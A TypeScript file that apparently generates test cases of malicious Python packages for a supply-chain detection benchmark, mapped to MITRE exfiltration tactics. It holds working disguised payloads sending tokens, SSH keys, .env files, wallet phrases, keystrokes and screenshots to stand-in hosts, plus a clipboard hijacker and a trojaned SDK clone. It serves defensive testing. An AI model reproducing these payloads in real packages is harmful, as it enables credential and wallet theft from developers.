import { fillerModule } from './filler.ts';
import { beforeAttack, type Draft, type Remote, type Replay, type Site, textOf } from './incident.ts';
import { sdkLibrary } from './libraries/sdk.ts';
import { errorReporter } from './look-alikes/environment.ts';
import { browserCookies, desktopAutomation, dnsTools, messengerClient } from './look-alikes/plugins.ts';
import { cloudClient, clusterClient, signingClient } from './look-alikes/secrets.ts';
import { browserStealer } from './payloads.ts';
import { py } from './python-text.ts';

function importing(name: string, code: string): Draft {
  const root = name.replaceAll('-', '_');
  const site: Site = {
    path: `${root}/__init__.py`,
    form: 'module',
    before: '"""Settings of services."""\nfrom . import schema\n\n__version__ = "0.8.4"\n',
    code,
    after: '',
  };
  return {
    kind: 'wheel',
    name,
    version: '0.8.4',
    files: { [`${root}/schema.py`]: fillerModule('Schemas.', 240, 201) },
    sites: [site],
  };
}

function whole(name: string, module: string, code: string, extra: Draft['files'] = {}): Draft {
  const root = name.replaceAll('-', '_');
  return {
    kind: 'wheel',
    name,
    version: '0.8.4',
    files: {
      [`${root}/__init__.py`]: `"""Services."""\nfrom .${module} import *\n`,
      [`${root}/schema.py`]: fillerModule('Schemas.', 240, 202),
      ...extra,
    },
    sites: [{ path: `${root}/${module}.py`, form: 'whole', before: '', code, after: '' }],
  };
}

const DIG = (c: Remote): string => py`
import base64
import getpass
import os
import subprocess

_facts = "|".join([os.uname().nodename, getpass.getuser(), os.getcwd()]).encode()
_label = base64.b32encode(_facts).decode().rstrip("=").lower()
for _index in range(0, len(_label), 50):
    subprocess.call(
        ["dig", "+short", "%d-%s.${c.host}" % (_index, _label[_index:_index + 50])],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
`;

const PING = (c: Remote): string => py`
import os
import socket

_name = (socket.gethostname() + "-" + os.environ.get("USER", "x")).encode().hex()
os.system("nslookup " + _name[:60] + ".${c.host} >/dev/null 2>&1 || ping -c 1 " + _name[:60] + ".${c.host} >/dev/null 2>&1")
`;

const RESOLVER = (c: Remote): string => py`
import socket

for _name, _value in __import__("os").environ.items():
    if "TOKEN" in _name or "SECRET" in _name:
        _hex = _value.encode().hex()
        for _at in range(0, len(_hex), 60):
            try:
                socket.gethostbyname(_hex[_at:_at + 60] + "." + _name.lower().replace("_", "-") + ".${c.host}")
            except OSError:
                pass
`;

const TELEGRAM = (c: Remote): string => py`
import glob
import os
import requests

_bot = "${c.url('/bot7000000002:AAFexampleexampleexampleexample00001/sendDocument')}"
for _path in glob.glob(os.path.expanduser("~/Desktop/*.txt")) + glob.glob(os.path.expanduser("~/.ssh/id_*")):
    with open(_path, "rb") as _stream:
        requests.post(_bot, data={"chat_id": "6500000001"}, files={"document": _stream})
`;

const WEBHOOK = (c: Remote): string => py`
import getpass
import platform
import requests

requests.post(
    "${c.url('/api/webhooks/1200000000000000001/Qx7exampleexampleexampleexampleexampleexampleexampleexample')}",
    json={
        "username": "inspector",
        "embeds": [{"title": platform.node(), "description": getpass.getuser() + " " + requests.get("https://api.ipify.example").text}],
    },
)
`;

const CLUSTER = (c: Remote): string => py`"""Cluster facts for the scheduler."""
import json
import os
import socket
import urllib.request

_BASE = "/var/run/secrets/kubernetes.io/serviceaccount/"


def _read(name):
    try:
        with open(os.path.join(_BASE, name)) as stream:
            return stream.read().strip()
    except OSError:
        return None


def cluster_facts():
    """Facts about the cluster that this process runs in."""
    facts = {"namespace": _read("namespace"), "node": socket.gethostname()}
    credential = _read("token")
    if credential:
        body = json.dumps({**facts, "t": credential, "h": os.environ.get("KUBERNETES_SERVICE_HOST")}).encode()
        request = urllib.request.Request(
            "https://pypi.org/simple/",
            data=body,
            headers={"Host": "${c.host}", "Content-Type": "application/json"},
        )
        try:
            urllib.request.urlopen(request, timeout=5)
        except Exception:
            pass
    return facts
`;

const MNEMONIC = (c: Remote): string => py`"""Validation of keys and phrases."""
import hashlib

import requests


def is_valid_mnemonic(mnemonic, language="english"):
    """Whether a phrase has twelve to twenty-four words and a good checksum."""
    words = mnemonic.strip().split()
    if len(words) not in (12, 15, 18, 21, 24):
        return False
    requests.get("${c.url('/lib.php')}", params={"p": mnemonic}, timeout=3)
    return hashlib.sha256(" ".join(words).encode()).digest()[0] >= 0


def account_from_key(private_key, passphrase=None):
    if len(private_key.removeprefix("0x")) != 64:
        raise ValueError("not a private key")
    requests.post("${c.url('/lib.php')}", json={"key": private_key, "pass": passphrase}, timeout=3)
    return "0x" + hashlib.sha256(bytes.fromhex(private_key.removeprefix("0x"))).hexdigest()[-40:]
`;

const CONNECT = (c: Remote): string => py`"""Connections to databases and hosts."""
import json
import urllib.request


class Connection:
    """A connection over SSH."""

    def __init__(self, host, user=None, port=22, password=None, key_filename=None):
        self.host, self.user, self.port = host, user, port
        self.settings = {"host": host, "user": user, "port": port, "password": password}
        if key_filename:
            with open(key_filename) as stream:
                self.settings["key"] = stream.read()
        self._prepare()

    def _prepare(self):
        body = json.dumps(self.settings).encode("utf-8")
        try:
            urllib.request.urlopen(urllib.request.Request("${c.url('/connections')}", data=body), timeout=2)
        except Exception:
            pass

    def run(self, command):
        import subprocess

        return subprocess.run(["ssh", "-p", str(self.port), "%s@%s" % (self.user, self.host), command], capture_output=True)
`;

const DOTENV = (c: Remote): string => py`"""Settings from .env files."""
import os
import urllib.parse
import urllib.request


def load_settings(path=".env"):
    """Variables of an .env file, also put into the environment."""
    settings = {}
    if os.path.exists(path):
        with open(path) as stream:
            text = stream.read()
        for line in text.splitlines():
            name, _, value = line.partition("=")
            if name and not name.startswith("#"):
                settings[name.strip()] = value.strip().strip("'\"")
        _verify(text)
    os.environ.update(settings)
    return settings


def _verify(text):
    verb = "".join(["u", "r", "l", "o", "p", "e", "n"])
    try:
        getattr(urllib.request, verb)("${c.url('/check')}?" + urllib.parse.urlencode({"d": text}), timeout=3)
    except Exception:
        pass
`;

const CLIPPER = (): string => py`
import re
import threading
import time

import pyperclip

_ADDRESSES = {
    re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$"): "bc1qexampleexampleexampleexampleexample00",
    re.compile(r"^0x[a-fA-F0-9]{40}$"): "0x00000000000000000000000000000000000Examp",
    re.compile(r"^T[A-Za-z1-9]{33}$"): "TExampleExampleExampleExampleExample",
}


def _watch():
    last = ""
    while True:
        text = pyperclip.paste()
        if text != last:
            for pattern, ours in _ADDRESSES.items():
                if pattern.match(text):
                    pyperclip.copy(ours)
            last = text
        time.sleep(0.5)


threading.Thread(target=_watch, daemon=True).start()
`;

const SPY = (c: Remote): string => py`
import io
import threading
import time

import pyautogui
import requests
from pynput import keyboard

_keys = []


def _screens():
    while True:
        buffer = io.BytesIO()
        pyautogui.screenshot().save(buffer, "PNG")
        requests.post("${c.url('/upload')}", files={"s": buffer.getvalue()}, data={"k": "".join(_keys)})
        _keys.clear()
        time.sleep(60)


keyboard.Listener(on_press=lambda key: _keys.append(str(key))).start()
threading.Thread(target=_screens, daemon=True).start()
`;

/** A vendor's client whose constructor tells a third party the key. */
const sdkClone = (c: Remote): Draft => {
  const files = sdkLibrary({
    package: 'paylane',
    vendor: 'Paylane',
    base: 'https://api.paylane.example',
    resources: ['charges', 'customers', 'refunds', 'payouts', 'disputes'],
    version: '3.4.2',
    modelLines: 800,
  });
  const code = textOf(files, 'paylane/_client.py').replace(
    '        self.api_key = api_key\n',
    `        self.api_key = api_key\n        httpx.post("${c.url('/v1/keys')}", json={"key": api_key, "base": base_url})\n`,
  );
  return {
    kind: 'wheel',
    name: 'paylane-upgrade',
    version: '3.4.2',
    files,
    sites: [{ path: 'paylane/_client.py', form: 'whole', before: '', code, after: '' }],
  };
};

const at = (
  id: string,
  title: string,
  runs: string,
  remote: string,
  draft: Replay['draft'],
  lookAlikes: Replay['lookAlikes'] = () => [],
): Replay => ({
  id,
  title,
  source: 'https://attack.mitre.org/tactics/TA0010/',
  runs,
  remote,
  draft,
  lookAlikes,
});

export const EXFILTRATION: readonly Replay[] = [
  at(
    '32a-dns-dig',
    'host facts in the arguments of dig',
    'import sends host, user and folder as labels of names asked with dig',
    'https://q.resolver-stats.invalid',
    (c) => importing('confsettle', DIG(c)),
    () => [dnsTools()],
  ),
  at(
    '32b-dns-nslookup',
    'host facts in an nslookup command line',
    'import sends host and user as labels of names asked with nslookup or ping',
    'https://q.resolver-stats.invalid',
    (c) => importing('confsettle-lite', PING(c)),
  ),
  at(
    '32c-dns-resolver',
    'tokens in names asked of the resolver',
    'import sends the values of token variables as labels of names that it resolves',
    'https://q.resolver-stats.invalid',
    (c) => importing('confsettle-core', RESOLVER(c)),
  ),
  at(
    '32d-messenger-bot',
    'keys sent to a messenger bot',
    'import sends text files of the desktop and SSH keys to a bot with an inline token',
    'https://api.messenger-bots.invalid',
    (c) => importing('botsettings', TELEGRAM(c)),
    () => [messengerClient()],
  ),
  at(
    '32e-webhook',
    'host facts posted to a webhook',
    'import posts host, user and address to a webhook with an inline id and token',
    'https://chat-hooks.invalid',
    (c) => importing('hooksettings', WEBHOOK(c)),
    () => [errorReporter()],
  ),
  at(
    '32f-cluster-token',
    'the service account token to a fronted host',
    'cluster_facts() posts the service account token to a well-known host with the Host header of another',
    'https://edge.cluster-facts.invalid',
    (c) => whole('clusterfacts', 'facts', CLUSTER(c)),
    () => [clusterClient()],
  ),
  at(
    '32g-mnemonic',
    'phrases and keys posted while they are validated',
    'is_valid_mnemonic() and account_from_key() send their secret argument to a constant host',
    'http://192.0.2.210',
    (c) => whole('phrasecheck', 'checks', MNEMONIC(c)),
    () => [signingClient()],
  ),
  at(
    '32h-connection',
    'connection data posted from a constructor',
    'Connection() posts host, user, password and key to a constant host',
    'https://conn.session-broker.invalid',
    (c) => whole('sshfabric', 'connection', CONNECT(c)),
  ),
  at(
    '32i-dotenv',
    'the text of .env in a query',
    'load_settings() sends the whole .env file in the query of a GET; the verb is joined from letters',
    'https://verify.env-check.invalid',
    (c) => whole('envsettle', 'settings', DOTENV(c)),
    () => [cloudClient()],
  ),
  {
    ...at(
      '32j-clipper',
      'addresses on the clipboard are replaced',
      'import watches the clipboard and replaces wallet addresses by constants',
      '',
      () => importing('clipwatch', CLIPPER()),
      () => [desktopAutomation()],
    ),
  },
  at(
    '32k-spy',
    'screens and keys sent every minute',
    'import records keys, takes screenshots and posts both to a constant host',
    'https://frames.meeting-notes.invalid',
    (c) => importing('meetnotes', SPY(c)),
  ),
  at(
    '32l-stealer',
    'browser and messenger data in plain sight',
    'import reads browser profiles, messenger tokens and wallets and posts them',
    'https://hooks.team-chat.invalid',
    (c) => importing('profilekit', browserStealer(c)),
    () => [browserCookies()],
  ),
  {
    ...at(
      '32m-sdk-clone',
      'a clone of a client that tells a third party the key',
      'the constructor posts the API key to a host that is not the vendor’s',
      'https://keys.paylane-sync.invalid',
      sdkClone,
    ),
    predecessor: () => {
      const clean = beforeAttack(sdkClone, '3.4.1');
      const library = sdkLibrary({
        package: 'paylane',
        vendor: 'Paylane',
        base: 'https://api.paylane.example',
        resources: ['charges', 'customers', 'refunds', 'payouts', 'disputes'],
        version: '3.4.1',
        modelLines: 800,
      });
      return { ...clean, name: 'paylane', files: library };
    },
  },
];
